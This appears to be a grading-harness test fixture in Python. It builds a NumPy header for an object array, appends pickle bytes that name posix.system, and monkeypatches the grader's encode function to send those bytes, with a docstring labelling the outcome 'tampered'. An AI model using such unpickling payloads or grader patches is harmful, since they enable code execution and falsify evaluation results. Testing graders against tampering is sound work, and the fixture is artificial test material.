"""Sends the header of an array of objects, which NumPy would unpickle.

Outcome: tampered
Earns: 4
Says: broke the channel
"""

import outofcore.grading._values as values

header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,)}"
head = b"\x93NUMPY\x03\x00" + len(header).to_bytes(4, "little") + header
node, blobs = ["n", 0], [head + b"cposix\nsystem\n."]


def twice(x):
    values.encode = lambda value: (node, blobs)
    return x
